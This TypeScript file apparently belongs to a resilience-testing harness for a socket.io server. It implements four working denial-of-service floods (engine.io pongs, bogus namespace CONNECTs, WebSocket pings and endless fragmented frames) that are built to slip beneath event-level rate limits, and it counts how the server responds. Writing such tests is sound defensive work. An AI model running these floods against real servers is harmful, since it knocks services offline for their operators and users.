/**
 * Floods below the event layer, where the event rate limits never look: engine.io pongs,
 * socket.io CONNECTs to namespaces that do not exist, and WebSocket ping frames (which `ws`
 * answers by itself, below engine.io), thousands to a TCP write.
 */
import { type Attack, type AttackTally, count, repeatFor, sleep } from './attack.js';
import { connectFrame, connectOutcome, openEngine } from './engine-socket.js';
import { clientFrame } from './raw-tcp.js';

/** A flood of `frame`s, as WebSocket frames of `opcode` (1: text). */
function packetFlood(kind: string, frame: (i: number) => string, opcode = 1): Attack {
  return async (target, durationMs) => {
    const tally: AttackTally = {};
    const frames = Array.from({ length: 2048 }, (_, i) => clientFrame(frame(i), opcode));
    const batch = Buffer.concat(frames);
    const endAt = performance.now() + durationMs;
    await repeatFor(durationMs, 2, async () => {
      const raw = await openEngine(target);
      if (!raw) return sleep(100);
      raw.sendTexts([connectFrame()]);
      count(tally, `join-${await connectOutcome(raw)}`);
      raw.socket.removeAllListeners('data');
      raw.socket.resume();
      while (performance.now() < endAt && raw.endedBy === 'open') {
        count(tally, `${kind}-batches`);
        if (!raw.socket.write(batch))
          await Promise.race([
            new Promise((resolve) => raw.socket.once('drain', resolve)),
            sleep(Math.max(0, endAt - performance.now())),
          ]);
      }
      count(tally, raw.endedBy === 'open' ? 'still-open' : 'closed-by-server');
      raw.destroy();
    });
    return tally;
  };
}

/** engine.io pongs nobody asked for. */
export const pongFlood = packetFlood('pong', () => '3');

/** CONNECTs to namespaces the server does not have, each answered with an error. */
export const namespaceFlood = packetFlood('connect', (i) => connectFrame(`/nowhere${i % 50}`));

/** WebSocket ping frames (opcode 9), each answered with a pong frame by `ws` itself. */
export const webSocketPingFlood = packetFlood('ws-ping', () => '', 0x9);

/**
 * One text message that never ends: a first fragment, then empty continuation frames (opcode
 * 0) for ever, each parsed by `ws` and none a whole message, so none an engine.io packet.
 */
export const fragmentFlood: Attack = async (target, durationMs) => {
  const tally: AttackTally = {};
  const batch = Buffer.concat(Array.from({ length: 8192 }, () => clientFrame('', 0, false)));
  const endAt = performance.now() + durationMs;
  await repeatFor(durationMs, 2, async () => {
    const raw = await openEngine(target);
    if (!raw) return sleep(100);
    raw.sendTexts([connectFrame()]);
    count(tally, `join-${await connectOutcome(raw)}`);
    raw.socket.removeAllListeners('data');
    raw.socket.resume();
    raw.socket.write(clientFrame('4', 1, false));
    while (performance.now() < endAt && raw.endedBy === 'open') {
      count(tally, 'fragment-batches');
      if (!raw.socket.write(batch))
        await Promise.race([
          new Promise((resolve) => raw.socket.once('drain', resolve)),
          sleep(Math.max(0, endAt - performance.now())),
        ]);
    }
    count(tally, raw.endedBy === 'open' ? 'still-open' : 'closed-by-server');
    raw.destroy();
  });
  return tally;
};
